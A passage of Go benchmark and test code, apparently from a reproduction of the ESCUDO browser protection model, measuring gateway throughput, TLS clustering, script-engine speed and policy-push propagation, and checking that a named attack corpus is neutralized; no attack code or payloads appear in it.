		rep.Workers, rep.SessionsPerWorker, rep.TLS, rep.Addr)
	fmt.Printf("ready in %.0f ms (%d starting polls)\n\n", rep.ReadyMs, rep.StartingPolls)
	t := metrics.NewTable("Phase", "Tasks", "Reqs", "Aggregate reqs/s", "p50 (ms)", "p99 (ms)")
	for _, ph := range rep.Phases {
		t.AddRow(ph.Name,
			fmt.Sprintf("%d", ph.Tasks),
			fmt.Sprintf("%d", ph.Requests),
			fmt.Sprintf("%.0f", ph.ReqsPerSec),
			fmt.Sprintf("%.3f", ph.P50Ms),
			fmt.Sprintf("%.3f", ph.P99Ms))
	}
	fmt.Print(t.String())
	fmt.Println()
	wt := metrics.NewTable("Worker", "PID", "Tasks", "Reqs/s", "p99 (ms)", "Attacks neutralized")
	for _, w := range rep.PerWorker {
		wt.AddRow(fmt.Sprintf("worker-%d", w.Worker),
			fmt.Sprintf("%d", w.PID),
			fmt.Sprintf("%d", w.Tasks),
			fmt.Sprintf("%.0f", w.ReqsPerSec),
			fmt.Sprintf("%.3f", w.P99Ms),
			fmt.Sprintf("%d/%d", w.AttacksNeutralized, rep.AttacksTotal))
	}
	fmt.Print(wt.String())
	if rep.AttacksTotal > 0 {
		fmt.Printf("\nAttack corpus across %d processes: %d/%d neutralized (verdicts match in-memory: %v)\n",
			rep.Workers, rep.AttacksNeutralized, rep.AttacksTotal, rep.AttacksMatchMemory)
	}
	proto := rep.Client.Proto
	if proto == "" {
		proto = "?"
	}
	fmt.Printf("Gateway transport across workers: proto %s, %d new, %d reused (%.1f%% reuse)\n",
		proto, rep.Client.NewConns, rep.Client.ReusedConns, 100*rep.Client.ReuseRate)
	if ac := rep.AttackClient; ac != nil {
		fmt.Printf("Attack-env wire (throwaway gateways): %d requests, %d new conns\n",
			ac.Requests, ac.NewConns)
	}
	if o := rep.Obs; o != nil {
		fmt.Printf("Fleet obs (%s): %d samples, goroutines post-warmup/last %d/%d (summed), heap monotonic=%v, %d GC cycles\n",
			rep.Version.Go, o.Samples, o.PostWarmupGoroutines, o.Goroutines.Last, o.HeapMonotonic, o.NumGC)
	}
	if s := rep.SLO; s != nil {
		if err := printSLO(s); err != nil {
			return err
		}
	}
	fmt.Printf("\nWrote cluster section to %s (%.0f ms total)\n", cfg.out, rep.ElapsedMs)
	return nil
}
