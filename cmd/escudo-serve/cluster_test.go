package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// waitForFile polls until path exists with non-empty content.
func waitForFile(t *testing.T, path string, timeout time.Duration) string {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		if data, err := os.ReadFile(path); err == nil && len(data) > 0 {
			return strings.TrimSpace(string(data))
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s not written within %v", path, timeout)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestServeOnlyConnectTLS drives the two process roles in-process:
// a serve-only gateway (TLS, HoldReady protocol, addr/CA files) and a
// connect worker generating the figure-4 load against it over https,
// then a graceful stop that writes the server stats file.
func TestServeOnlyConnectTLS(t *testing.T) {
	dir := t.TempDir()
	addrFile := filepath.Join(dir, "addr")
	caFile := filepath.Join(dir, "ca.pem")
	statsFile := filepath.Join(dir, "stats.json")
	shardFile := filepath.Join(dir, "shard.json")

	stop := make(chan struct{})
	serveDone := make(chan error, 1)
	go func() {
		serveDone <- runServeOnly(serveOnlyConfig{
			addr:      "127.0.0.1:0",
			sessions:  2,
			workers:   2,
			queue:     16,
			tls:       true,
			tlsCAOut:  caFile,
			addrFile:  addrFile,
			statsFile: statsFile,
		}, stop)
	}()

	addr := waitForFile(t, addrFile, 10*time.Second)
	waitForFile(t, caFile, 10*time.Second)

	err := runConnect(connectConfig{
		addr:        addr,
		sessions:    2,
		iters:       2,
		mode:        0, // browser.ModeEscudo
		attacksOn:   false,
		tls:         true,
		tlsCAFile:   caFile,
		workerID:    3,
		httpWorkers: 2,
		httpQueue:   16,
		out:         shardFile,
	})
	if err != nil {
		t.Fatalf("runConnect: %v", err)
	}
	data, err := os.ReadFile(shardFile)
	if err != nil {
		t.Fatalf("shard: %v", err)
	}
	var shard struct {
		Worker int  `json:"worker"`
		TLS    bool `json:"tls"`
		Phases []struct {
			Name     string `json:"name"`
			Tasks    uint64 `json:"tasks"`
			Errors   int    `json:"errors"`
			Requests uint64 `json:"requests"`
			Hist     struct {
				Counts []uint64 `json:"counts"`
			} `json:"latency_hist"`
		} `json:"phases"`
		Client struct {
			Requests    uint64 `json:"requests"`
			ReusedConns uint64 `json:"reused_conns"`
		} `json:"client"`
	}
	if err := json.Unmarshal(data, &shard); err != nil {
		t.Fatalf("parse shard: %v", err)
	}
	if shard.Worker != 3 || !shard.TLS {
		t.Fatalf("shard header: %+v", shard)
	}
	if len(shard.Phases) != 1 || shard.Phases[0].Name != "figure4" {
		t.Fatalf("phases: %+v", shard.Phases)
	}
	fig := shard.Phases[0]
	if fig.Tasks == 0 || fig.Errors != 0 || fig.Requests == 0 || len(fig.Hist.Counts) == 0 {
		t.Fatalf("figure4 shard phase inert: %+v", fig)
	}
	if shard.Client.Requests == 0 || shard.Client.ReusedConns == 0 {
		t.Fatalf("client conn accounting inert: %+v", shard.Client)
	}

	// Graceful stop: the serve-only process drains and writes stats.
	close(stop)
	select {
	case err := <-serveDone:
		if err != nil {
			t.Fatalf("runServeOnly: %v", err)
		}
	case <-time.After(15 * time.Second):
		t.Fatal("serve-only did not stop")
	}
	var stats struct {
		Addr    string `json:"addr"`
		TLS     bool   `json:"tls"`
		Origins int    `json:"origins"`
		Gateway struct {
			Served uint64 `json:"served"`
		} `json:"gateway"`
	}
	if err := json.Unmarshal([]byte(waitForFile(t, statsFile, 5*time.Second)), &stats); err != nil {
		t.Fatalf("stats: %v", err)
	}
	if stats.Addr != addr || !stats.TLS || stats.Origins != substrateOrigins || stats.Gateway.Served == 0 {
		t.Fatalf("server stats: %+v", stats)
	}
}

// TestConnectTLSRequiresCA pins the trust hand-off: a TLS worker
// without a CA bundle must refuse to start rather than dial
// unverified.
func TestConnectTLSRequiresCA(t *testing.T) {
	err := runConnect(connectConfig{addr: "127.0.0.1:1", tls: true, sessions: 1, iters: 1,
		out: filepath.Join(t.TempDir(), "shard.json")})
	if err == nil || !strings.Contains(err.Error(), "-tls-ca") {
		t.Fatalf("runConnect = %v, want -tls-ca requirement", err)
	}
}

// buildServeBinary compiles this command once for fork/exec tests.
func buildServeBinary(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "escudo-serve")
	cmd := exec.Command("go", "build", "-o", bin, ".")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// TestClusterEndToEnd is the acceptance run: `escudo-serve -cluster 2
// -tls` with real fork/exec'd processes — one TLS gateway server, two
// loadgen workers — running figure4 and the §6.4 attack corpus over
// https, merged into the cluster section with all 18 attacks
// neutralized in every worker.
func TestClusterEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("fork/exec cluster run in -short mode")
	}
	bin := buildServeBinary(t)
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-cluster", "2", "-tls", "-sessions", "1", "-iters", "1",
		"-cluster-bin", bin, "-out", out})
	if err != nil {
		t.Fatalf("cluster run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("parse report: %v", err)
	}
	c := report.Cluster
	if c == nil {
		t.Fatal("report has no cluster section")
	}
	if c.Workers != 2 || !c.TLS || c.Addr == "" {
		t.Fatalf("cluster header: %+v", c)
	}
	byName := map[string]bool{}
	for _, ph := range c.Phases {
		byName[ph.Name] = true
		if ph.Errors != 0 {
			t.Errorf("phase %s had %d errors", ph.Name, ph.Errors)
		}
		if ph.Tasks == 0 || ph.Requests == 0 || ph.P99Ms <= 0 {
			t.Errorf("phase %s inert: %+v", ph.Name, ph)
		}
	}
	if !byName["figure4"] || !byName["attacks"] {
		t.Fatalf("cluster phases missing figure4/attacks: %+v", c.Phases)
	}
	if c.AttacksTotal != 18 || c.AttacksNeutralized != 18 || !c.AttacksMatchMemory {
		t.Fatalf("attack tally: total %d neutralized %d match %v",
			c.AttacksTotal, c.AttacksNeutralized, c.AttacksMatchMemory)
	}
	if len(c.PerWorker) != 2 {
		t.Fatalf("per-worker breakdown: %+v", c.PerWorker)
	}
	for _, w := range c.PerWorker {
		if w.AttacksNeutralized != 18 || w.PID == 0 {
			t.Fatalf("worker row: %+v", w)
		}
	}
	if c.Server == nil || c.Server.Origins != substrateOrigins || !c.Server.TLS {
		t.Fatalf("server stats: %+v", c.Server)
	}
	if c.Client.Requests == 0 || c.Client.ReusedConns == 0 {
		t.Fatalf("merged client stats inert: %+v", c.Client)
	}
	if c.ReadyMs <= 0 {
		t.Fatalf("ReadyMs = %v", c.ReadyMs)
	}

	// A second cluster run into the same file must preserve nothing it
	// shouldn't and still parse (section replacement, not corruption) —
	// and a cluster run composes with other sections already present.
	report.Sessions = 9
	if data, err := json.Marshal(report); err == nil {
		os.WriteFile(out, data, 0o644) //nolint:errcheck
	}
	err = run([]string{"-cluster", "1", "-sessions", "1", "-iters", "1", "-attacks=false",
		"-cluster-bin", bin, "-out", out})
	if err != nil {
		t.Fatalf("second cluster run: %v", err)
	}
	data, err = os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var second benchJSON
	if err := json.Unmarshal(data, &second); err != nil {
		t.Fatal(err)
	}
	if second.Sessions != 9 {
		t.Fatalf("existing report fields clobbered: sessions = %d, want 9", second.Sessions)
	}
	if second.Cluster == nil || second.Cluster.Workers != 1 || second.Cluster.TLS {
		t.Fatalf("cluster section not refreshed: %+v", second.Cluster)
	}
}

// TestServeHTTPSectionTLS runs the single-process driver with the
// gateway in TLS mode: the http section must record tls=true, socket
// traffic over https, and the client connection accounting.
func TestServeHTTPSectionTLS(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-sessions", "2", "-iters", "1", "-phpbb-iters", "1",
		"-mixed-iters", "0", "-attacks=false", "-http", "127.0.0.1:0", "-tls", "-out", out})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatal(err)
	}
	h := report.HTTP
	if h == nil || !h.TLS {
		t.Fatalf("http section missing or not TLS: %+v", h)
	}
	found := false
	for _, ph := range h.Phases {
		if ph.Name == "http-figure4" {
			found = true
			if ph.Requests == 0 || ph.Errors != 0 {
				t.Fatalf("http-figure4 over TLS inert: %+v", ph)
			}
		}
	}
	if !found {
		t.Fatal("no http-figure4 phase")
	}
	if h.Client == nil || h.Client.Requests == 0 || h.Client.ReusedConns == 0 {
		t.Fatalf("client accounting missing: %+v", h.Client)
	}
}
