package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// TestServeEmitsBenchJSON runs the full driver at the acceptance
// configuration — 8 concurrent sessions, all Figure-4 scenarios, the
// phpBB workload, the §6.4 attack corpus — and checks the emitted
// BENCH_engine.json: clean run, >50% cache hit rate on the phpBB
// phase, every attack neutralized under ESCUDO. Under `go test -race`
// this doubles as the pool-level race check.
func TestServeEmitsBenchJSON(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-sessions", "8", "-iters", "2", "-phpbb-iters", "6", "-out", out})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatalf("read output: %v", err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("parse output: %v", err)
	}
	if report.Sessions != 8 {
		t.Fatalf("sessions = %d, want 8", report.Sessions)
	}
	byName := map[string]phaseJSON{}
	for _, ph := range report.Phases {
		byName[ph.Name] = ph
		if ph.Errors != 0 {
			t.Errorf("phase %s had %d errors", ph.Name, ph.Errors)
		}
		if ph.Tasks == 0 {
			t.Errorf("phase %s ran no tasks", ph.Name)
		}
		if ph.Decisions == 0 {
			t.Errorf("phase %s recorded no decisions", ph.Name)
		}
	}
	for _, want := range []string{"figure4", "phpbb", "mixed", "attacks"} {
		if _, ok := byName[want]; !ok {
			t.Fatalf("missing phase %q in %v", want, report.Phases)
		}
	}
	bb := byName["phpbb"]
	if bb.Cache == nil {
		t.Fatal("phpbb phase has no cache stats")
	}
	if bb.Cache.HitRate <= 0.5 {
		t.Fatalf("phpbb cache hit rate %.3f, want > 0.5", bb.Cache.HitRate)
	}
	if bb.Batch == nil {
		t.Fatal("phpbb phase has no batch stats")
	}
	if bb.Batch.DistinctDecisions >= bb.Batch.NodesAuthorized {
		t.Fatalf("phpbb batch: distinct %d >= nodes %d, want deduplication",
			bb.Batch.DistinctDecisions, bb.Batch.NodesAuthorized)
	}
	if mx := byName["mixed"]; mx.Batch == nil || mx.Batch.DistinctDecisions >= mx.Batch.NodesAuthorized {
		t.Errorf("mixed phase batch stats missing or undeduplicated: %+v", mx.Batch)
	}
	atk := byName["attacks"].Attacks
	if atk == nil {
		t.Fatal("attacks phase has no attack stats")
	}
	if atk.Neutralized != atk.Total || atk.Succeeded != 0 {
		t.Fatalf("ESCUDO neutralized %d/%d (succeeded %d), want all",
			atk.Neutralized, atk.Total, atk.Succeeded)
	}
	// Script section: both engines measured, the VM ahead on time and
	// allocations, and the run's <script> traffic visible in the
	// compile cache. The thresholds here are deliberately looser than
	// the CI acceptance gate (≥3×, ≤0.25×) because `go test -race`
	// distorts timings; the jq assert on a real driver run pins the
	// real numbers.
	s := report.Script
	if s == nil {
		t.Fatal("report has no script section")
	}
	if s.Eval.OpsPerSec <= 0 || s.VM.OpsPerSec <= 0 {
		t.Fatalf("script section measured nothing: %+v", s)
	}
	if s.Speedup <= 1 {
		t.Errorf("script VM speedup %.2f, want > 1", s.Speedup)
	}
	if s.AllocRatio <= 0 || s.AllocRatio >= 0.5 {
		t.Errorf("script VM alloc ratio %.3f, want in (0, 0.5)", s.AllocRatio)
	}
	if s.CompileCacheHits == 0 || s.CompileCacheMisses == 0 {
		t.Errorf("compile cache saw no traffic: %d hits / %d misses",
			s.CompileCacheHits, s.CompileCacheMisses)
	}
}

// TestServeSOPBaseline replays the corpus under the legacy monitor:
// attacks must succeed there (the paper's Figure-5 contrast), which
// guards against the cache accidentally hardening SOP mode.
func TestServeSOPBaseline(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-sessions", "4", "-iters", "1", "-phpbb-iters", "2",
		"-mode", "sop", "-script-iters", "0", "-out", out})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatal(err)
	}
	for _, ph := range report.Phases {
		if ph.Attacks != nil && ph.Attacks.Succeeded == 0 {
			t.Fatal("no attack succeeded under SOP; the baseline lost its teeth")
		}
	}
}

// TestServeUncached checks the -uncached baseline emits no cache
// section and still completes cleanly.
func TestServeUncached(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-sessions", "2", "-iters", "1", "-phpbb-iters", "2",
		"-attacks=false", "-uncached", "-script-iters", "0", "-out", out})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatal(err)
	}
	if !report.Uncached {
		t.Fatal("report not marked uncached")
	}
	for _, ph := range report.Phases {
		if ph.Cache != nil {
			t.Fatalf("uncached run emitted cache stats in phase %s", ph.Name)
		}
	}
}

func TestServeRejectsBadMode(t *testing.T) {
	if err := run([]string{"-mode", "bogus"}); err == nil {
		t.Fatal("bad -mode accepted")
	}
}

// TestServeHTTPSection runs the driver with the gateway enabled and
// checks the http section of the report: the loopback phases really
// went over sockets (requests counted, latency measured), the page
// cache saw the immutable fixtures, and the attack corpus over
// sockets is fully neutralized with verdicts identical to in-memory.
func TestServeHTTPSection(t *testing.T) {
	out := filepath.Join(t.TempDir(), "BENCH_engine.json")
	err := run([]string{"-sessions", "4", "-iters", "2", "-phpbb-iters", "2",
		"-mixed-iters", "2", "-http", "127.0.0.1:0", "-script-iters", "0", "-out", out})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var report benchJSON
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatal(err)
	}
	h := report.HTTP
	if h == nil {
		t.Fatal("report has no http section")
	}
	if h.Addr == "" {
		t.Fatal("http section has no gateway address")
	}
	byName := map[string]httpPhaseJSON{}
	for _, ph := range h.Phases {
		byName[ph.Name] = ph
		if ph.Errors != 0 {
			t.Errorf("phase %s had %d errors", ph.Name, ph.Errors)
		}
	}
	fig, ok := byName["http-figure4"]
	if !ok {
		t.Fatalf("missing http-figure4 phase in %+v", h.Phases)
	}
	if fig.Requests == 0 || fig.ReqsPerSec <= 0 || fig.P50Ms <= 0 {
		t.Fatalf("http-figure4 did not measure socket traffic: %+v", fig)
	}
	if fig.CacheHits == 0 {
		t.Fatalf("scenario fixtures never hit the page cache: %+v", fig)
	}
	if mx, ok := byName["http-mixed"]; !ok || mx.Requests == 0 {
		t.Fatalf("http-mixed missing or inert: %+v", mx)
	}
	if h.Attacks == nil {
		t.Fatal("http section has no attack stats")
	}
	if atk, ok := byName["http-attacks"]; !ok || atk.Requests == 0 {
		t.Fatalf("http-attacks phase missing or counted no per-env gateway traffic: %+v", atk)
	}
	if h.Attacks.Neutralized != h.Attacks.Total || h.Attacks.Succeeded != 0 {
		t.Fatalf("over sockets: neutralized %d/%d (succeeded %d), want all",
			h.Attacks.Neutralized, h.Attacks.Total, h.Attacks.Succeeded)
	}
	if h.AttacksMatchMemory == nil || !*h.AttacksMatchMemory {
		t.Fatal("attack verdicts over sockets not confirmed against in-memory")
	}
	if h.Gateway.Served == 0 {
		t.Fatalf("gateway served nothing: %+v", h.Gateway)
	}
}
