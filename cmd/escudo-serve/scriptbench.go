package main

import (
	"fmt"
	"runtime"
	"sort"
	"time"

	"repro/internal/script"
)

// The script section measures the two script engines — the
// tree-walking interpreter (the semantic baseline) and the compiled
// VM the browser actually runs — head to head on the mixed-phase
// corpus from internal/script. One "op" is one pass over the whole
// corpus, matching BenchmarkScriptEval/BenchmarkScriptVM, so the
// numbers here and `go test -bench Script` describe the same thing.
//
// The engines are measured in paired rounds (eval then VM inside each
// round) and summarized by medians: on a loaded or single-CPU host
// the absolute timings wobble, but scheduler noise hits both halves
// of a pair roughly equally, so the per-round ratio — and therefore
// the reported speedup — stays stable.

// scriptEngineJSON is one engine's half of the script section.
type scriptEngineJSON struct {
	OpsPerSec   float64 `json:"ops_per_sec"`
	NsPerOp     float64 `json:"ns_per_op"`
	AllocsPerOp float64 `json:"allocs_per_op"`
}

// scriptJSON is the script section of BENCH_engine.json.
type scriptJSON struct {
	CorpusScripts int `json:"corpus_scripts"`
	// Passes is corpus passes per round per engine; Rounds is the
	// number of paired rounds the medians are taken over.
	Passes int              `json:"passes"`
	Rounds int              `json:"rounds"`
	Eval   scriptEngineJSON `json:"eval"`
	VM     scriptEngineJSON `json:"vm"`
	// Speedup is the median of per-round evalNs/vmNs ratios — the
	// paired measure, robust to load the per-engine medians are not.
	Speedup    float64 `json:"speedup"`
	AllocRatio float64 `json:"alloc_ratio"`
	// Compile cache counters are cumulative over the whole run: by the
	// time this section is measured, every <script> body the workload
	// phases executed has flowed through CompileCached.
	CompileCacheHits   uint64 `json:"compile_cache_hits"`
	CompileCacheMisses uint64 `json:"compile_cache_misses"`
}

func median(xs []float64) float64 {
	s := append([]float64(nil), xs...)
	sort.Float64s(s)
	n := len(s)
	if n == 0 {
		return 0
	}
	if n%2 == 1 {
		return s[n/2]
	}
	return (s[n/2-1] + s[n/2]) / 2
}

// runScriptSection benchmarks both engines over the shared corpus.
// passes is corpus passes per round per engine; rounds is fixed.
func runScriptSection(passes int) (*scriptJSON, error) {
	const rounds = 9
	srcs := script.BenchCorpus()
	progs := make([]*script.Program, len(srcs))
	compiled := make([]*script.Compiled, len(srcs))
	for i, src := range srcs {
		p, err := script.Parse(src)
		if err != nil {
			return nil, fmt.Errorf("script corpus %d: %w", i, err)
		}
		progs[i] = script.Fold(p)
		compiled[i] = script.Compile(progs[i])
	}

	evalPass := func() error {
		for _, p := range progs {
			ip := &script.Interp{}
			if _, err := ip.Run(p, script.StdEnv(&script.Console{})); err != nil {
				return err
			}
		}
		return nil
	}
	vmPass := func() error {
		for _, c := range compiled {
			vm := &script.VM{}
			if _, err := vm.Run(c, script.StdEnv(&script.Console{})); err != nil {
				return err
			}
		}
		return nil
	}
	timePasses := func(pass func() error) (float64, error) {
		start := time.Now()
		for i := 0; i < passes; i++ {
			if err := pass(); err != nil {
				return 0, err
			}
		}
		return float64(time.Since(start).Nanoseconds()) / float64(passes), nil
	}
	// Allocation counts are deterministic per pass, so one measured
	// window per engine suffices; Mallocs is monotonic, no GC needed.
	allocsPerPass := func(pass func() error) (float64, error) {
		const n = 16
		var m0, m1 runtime.MemStats
		runtime.ReadMemStats(&m0)
		for i := 0; i < n; i++ {
			if err := pass(); err != nil {
				return 0, err
			}
		}
		runtime.ReadMemStats(&m1)
		return float64(m1.Mallocs-m0.Mallocs) / n, nil
	}

	// Warm both engines (JIT-free, but first passes fault in code and
	// grow runtime structures) before the measured rounds.
	for i := 0; i < 2; i++ {
		if err := evalPass(); err != nil {
			return nil, fmt.Errorf("script eval warmup: %w", err)
		}
		if err := vmPass(); err != nil {
			return nil, fmt.Errorf("script vm warmup: %w", err)
		}
	}

	evalNs := make([]float64, 0, rounds)
	vmNs := make([]float64, 0, rounds)
	ratios := make([]float64, 0, rounds)
	for r := 0; r < rounds; r++ {
		e, err := timePasses(evalPass)
		if err != nil {
			return nil, fmt.Errorf("script eval: %w", err)
		}
		v, err := timePasses(vmPass)
		if err != nil {
			return nil, fmt.Errorf("script vm: %w", err)
		}
		evalNs = append(evalNs, e)
		vmNs = append(vmNs, v)
		if v > 0 {
			ratios = append(ratios, e/v)
		}
	}

	evalAllocs, err := allocsPerPass(evalPass)
	if err != nil {
		return nil, err
	}
	vmAllocs, err := allocsPerPass(vmPass)
	if err != nil {
		return nil, err
	}

	sec := &scriptJSON{
		CorpusScripts: len(srcs),
		Passes:        passes,
		Rounds:        rounds,
		Eval:          scriptEngineJSON{NsPerOp: median(evalNs), AllocsPerOp: evalAllocs},
		VM:            scriptEngineJSON{NsPerOp: median(vmNs), AllocsPerOp: vmAllocs},
		Speedup:       median(ratios),
	}
	if sec.Eval.NsPerOp > 0 {
		sec.Eval.OpsPerSec = 1e9 / sec.Eval.NsPerOp
	}
	if sec.VM.NsPerOp > 0 {
		sec.VM.OpsPerSec = 1e9 / sec.VM.NsPerOp
	}
	if evalAllocs > 0 {
		sec.AllocRatio = vmAllocs / evalAllocs
	}
	sec.CompileCacheHits, sec.CompileCacheMisses = script.CompileCacheStats()
	return sec, nil
}
