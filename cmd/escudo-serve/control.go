// Control-plane section of the benchmark: a multi-tenant gateway at
// -tenants template-stamped origins, a live policy flip pushed through
// POST /policyz/reload while the figure-4 workload runs (the
// invalidation storm), and a noisy-neighbor harness showing a flooded
// tenant cannot move another tenant's p99. The section exists to
// measure the propagation machinery end to end over a real socket:
// push → long-poll observation → cache invalidation → refill, with
// the generation-isolation invariant (no page load observes two
// policy generations) asserted on the way out.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/ctlplane"
	"repro/internal/engine"
	"repro/internal/httpd"
	"repro/internal/metrics"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

// stormJSON is the invalidation-storm measurement: one live policy
// push landing mid-load, timed at every hop.
type stormJSON struct {
	// FlipGeneration is the fleet generation the push was accepted at.
	FlipGeneration uint64 `json:"flip_generation"`
	// PushAckMs is POST /policyz/reload round-trip time (validate +
	// atomic swap + answer).
	PushAckMs float64 `json:"push_ack_ms"`
	// PropagationMs is push-start → the loadgen watcher observing the
	// new generation through its long poll.
	PropagationMs float64 `json:"propagation_ms"`
	// CacheEntriesBefore is the warm decision-cache population the
	// flip invalidates; CacheRefillMs is flip-observed → the cache
	// holding at least that many live entries again.
	CacheEntriesBefore int     `json:"cache_entries_before"`
	CacheRefillMs      float64 `json:"cache_refill_ms"`
	// BaselineReqsPerSec is the median 20ms-window gateway throughput
	// before the push; MinPostFlipReqsPerSec the worst window in the
	// second after it; DipPercent the relative depth; DipDurationMs
	// how long throughput stayed below 90% of baseline.
	BaselineReqsPerSec    float64 `json:"baseline_reqs_per_sec"`
	MinPostFlipReqsPerSec float64 `json:"min_post_flip_reqs_per_sec"`
	DipPercent            float64 `json:"dip_percent"`
	DipDurationMs         float64 `json:"dip_duration_ms"`
	// The full §6.4 corpus replayed against the pool's cache on both
	// sides of the flip: neutralization must not regress across a
	// live policy push.
	AttacksPreFlip  *attacksJSON `json:"attacks_pre_flip,omitempty"`
	AttacksPostFlip *attacksJSON `json:"attacks_post_flip,omitempty"`
}

// noisyJSON is the noisy-neighbor harness: one tenant flooded into
// queue overflow, a second tenant's latency probed concurrently.
type noisyJSON struct {
	VictimP99AloneMs float64 `json:"victim_p99_alone_ms"`
	VictimP99NoisyMs float64 `json:"victim_p99_noisy_ms"`
	// P99Ratio is noisy/alone — the isolation figure. Per-origin
	// bounded queues keep it near 1; a shared unbounded queue would
	// let the flood drag it up.
	P99Ratio      float64 `json:"p99_ratio"`
	FloodRequests uint64  `json:"flood_requests"`
	Flood503      uint64  `json:"flood_rejected_503"`
}

// controlJSON is the control section of BENCH_engine.json.
type controlJSON struct {
	// TenantsMounted is how many template-stamped tenant origins the
	// gateway carried (plus the hot loadgen origin).
	TenantsMounted int `json:"tenants_mounted"`
	// Generation is the fleet policy generation after the run;
	// PolicyzOrigins the number of documents /policyz served.
	Generation     uint64 `json:"generation"`
	PolicyzOrigins int    `json:"policyz_origins"`
	// GenerationsMixed is the invariant gate: pages whose decisions
	// span two policy generations. Must be 0 — a page load observes
	// exactly one generation even with a flip landing mid-run.
	GenerationsMixed int `json:"generations_mixed"`
	PagesAudited     int `json:"pages_audited"`
	// GenerationsSeen counts distinct generations across the storm
	// phase's pages — ≥2 proves the flip really landed mid-load.
	GenerationsSeen int             `json:"generations_seen"`
	Storm           *stormJSON      `json:"storm,omitempty"`
	Noisy           *noisyJSON      `json:"noisy_neighbor,omitempty"`
	Phases          []httpPhaseJSON `json:"phases"`
}

// controlSectionConfig parameterizes the control-plane section.
type controlSectionConfig struct {
	tenants        int
	sessions       int
	iters          int
	workers, queue int
	mode           browser.Mode
	uncached       bool
	attacksOn      bool
}

// stormWindow is the throughput sampling cadence during the storm —
// coarse enough that single-CPU scheduler jitter does not produce
// empty windows, fine enough to resolve a sub-second dip.
const stormWindow = 50 * time.Millisecond

// replayCorpus runs the §6.4 corpus serially against the shared
// decision cache and tallies verdicts.
func replayCorpus(mode browser.Mode, cache *core.DecisionCache) (*attacksJSON, error) {
	corpus := attack.Corpus()
	aj := &attacksJSON{Total: len(corpus)}
	for _, atk := range corpus {
		r := attack.RunOneCached(atk, mode, cache)
		if r.Err != nil {
			return nil, fmt.Errorf("attack %s: %w", atk.Name, r.Err)
		}
		if r.Neutralized() {
			aj.Neutralized++
		} else {
			aj.Succeeded++
		}
	}
	return aj, nil
}

// probeP99 issues n sequential GETs for pathQ against the origin
// through ct and returns the p99 latency. Any non-200 answer is an
// error: the victim must stay fully served.
func probeP99(ct *httpd.ClientTransport, o origin.Origin, pathQ string, n int) (time.Duration, error) {
	var s metrics.Sample
	for i := 0; i < n; i++ {
		start := time.Now()
		resp, err := ct.RoundTrip(web.NewRequest("GET", o.URL(pathQ)))
		if err != nil {
			return 0, fmt.Errorf("victim probe: %w", err)
		}
		if resp.Status != 200 {
			return 0, fmt.Errorf("victim probe: status %d", resp.Status)
		}
		s.Add(time.Since(start))
	}
	return s.Percentile(99), nil
}

// runControlSection mounts the hot origin plus cfg.tenants stamped
// tenants on a fresh gateway, subscribes a ctlplane.Watcher for the
// loadgen pool (generation pinned per page load, cache invalidated on
// flip), and measures the invalidation storm and the noisy-neighbor
// isolation.
func runControlSection(cfg controlSectionConfig) (*controlJSON, error) {
	if cfg.tenants < 2 {
		return nil, fmt.Errorf("-tenants must be >= 2 for the noisy-neighbor harness, got %d", cfg.tenants)
	}

	// Substrate: one hot origin carrying the figure-4 load, plus the
	// tenant fleet sharing one stamped handler. Every origin mounts
	// with its own derived policy document, so /policyz lists the
	// whole fleet and the storm's push targets a real mounted doc.
	n := web.NewNetwork()
	hot := origin.MustParse("http://app.control.example")
	n.Register(hot, scenarios.Handler())
	tenants := scenarios.RegisterTenants(n, cfg.tenants)

	originCfgs := make(map[string]httpd.OriginConfig, cfg.tenants+1)
	hotDoc := scenarios.Policy(hot)
	originCfgs[hot.String()] = httpd.OriginConfig{Policy: &hotDoc, Workers: cfg.workers, QueueDepth: cfg.queue}
	for _, o := range tenants {
		doc := scenarios.Policy(o)
		originCfgs[o.String()] = httpd.OriginConfig{Policy: &doc}
	}
	// Tenants idle at one worker each: the point of the fleet is mount
	// scale and per-origin isolation, not aggregate tenant throughput.
	gw, ct, cleanup, err := httpd.WrapNetwork(n, httpd.Config{
		DefaultWorkers:    1,
